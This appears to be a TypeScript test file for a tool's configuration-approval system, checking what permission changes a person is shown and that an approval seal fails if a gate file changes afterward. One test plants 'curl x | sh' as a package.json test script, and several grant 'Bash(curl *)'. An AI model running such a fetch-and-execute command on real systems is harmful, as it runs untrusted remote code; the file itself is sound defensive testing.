// What a person is shown before they approve a configuration, and that this is what they approve.

import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import { trustText } from '../../../src/workflow/context/trust.ts';
import type { Project } from '../../../src/workflow/project.ts';
import { nobody } from '../../../src/workflow/project.ts';
import { Layered, modesYaml, permissions } from '../../support/layered-project.ts';

const session = 'session-1';

/** What is shown to whoever asks in a session. */
async function shownBy(project: Project, asks: string | null = session): Promise<string> {
  await project.ready(asks);
  const { approvals } = project.for({ session: asks, cwd: project.root });
  const { config: view, before } = await approvals.toShow();
  return trustText(view, before, approvals.approvalHashOf(view));
}

describe('the content that is shown to a person', () => {
  test('is complete if the session started with an unapproved content', async () => {
    const at = new Layered().put('project', 'modes.yaml', modesYaml());
    at.put('project', 'settings.one.json', permissions({ allow: ['Bash(curl *)'], deny: ['Write(a)'] }));
    expect(await at.write('a', session)).toBe('deny');
    at.put('project', 'settings.two.json', permissions({ deny: ['Write(b)'] }));
    expect(await shownBy(await at.open(session))).toContain('one allows Bash(curl *)');
  });

  test('is the change since the last approved content, if another content came between', async () => {
    const at = new Layered().put('project', 'modes.yaml', modesYaml());
    await at.put('project', 'settings.one.json', permissions({ allow: ['Read'], deny: ['Write(a)'] })).trust();
    await at.open();
    at.put('project', 'settings.one.json', permissions({ allow: ['Read', 'Bash(curl *)'] }));
    expect(await at.write('a', session)).toBe('deny');
    at.put('project', 'settings.two.json', permissions({ deny: ['Write(b)'] }));
    const lines = (await shownBy(await at.open(session))).split('\n');
    expect(lines).toContain('+ .claude/settings.one.json: allow Bash(curl *)');
    expect(lines).toContain('- .claude/settings.one.json: deny Write(a)');
    expect(lines).not.toContain('+ .claude/settings.one.json: allow Read');
  });

  test('has the modes and transitions that will apply, even if those of the user apply before the approval', async () => {
    const at = new Layered().put('user', 'modes.yaml', modesYaml());
    at.put('project', 'modes.yaml', 'name: t\ndefault: free\nmodes:\n  free:\n    enforcement: advise\n');
    at.put('project', 'settings.free.json', permissions({ allow: ['Bash(curl *)'] }));
    const lines = (await shownBy(await at.open())).split('\n');
    expect(lines).toContain('free allows Bash(curl *)');
    expect(lines).toContain('.claude/modes.yaml: free enforcement advise');
    expect(lines.join()).not.toContain('one → two');
  });
});

test('the next session starts with the approved content, even if it is overwritten before it is read again', async () => {
  const at = new Layered().put('project', 'modes.yaml', modesYaml());
  await at.put('project', 'settings.one.json', permissions({ deny: ['Write(a)'] })).trust();
  at.put('project', 'settings.one.json', permissions({ allow: ['Write(a)'] }));
  expect(await at.write('a', session)).toBe('deny');
  expect(await shownBy(await at.open(session))).toContain('- .claude/settings.one.json: deny Write(a)');
});

test('a gate file that changed since it was shown is not approved', async () => {
  const at = new Layered().put(
    'project',
    'modes.yaml',
    modesYaml().replace('{to: two}', '{to: two, require: [{run: npm test}]}'),
  );
  fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"true"}}');
  const project = await at.open();
  const { approvalHash: seal, changes: news } = project.for(nobody).approvals.wanted();
  expect(news).toEqual(['run: npm test: the engine runs it; it uses package.json']);
  fs.writeFileSync(path.join(at.root, 'package.json'), '{"scripts":{"test":"curl x | sh"}}');
  expect(project.for(nobody).approvals.give('terminal', seal)).toBe(false);
  expect(project.for(nobody).approvals.all()).toEqual([]);
  expect(project.for(nobody).approvals.wanted().changes).toEqual(news);
});
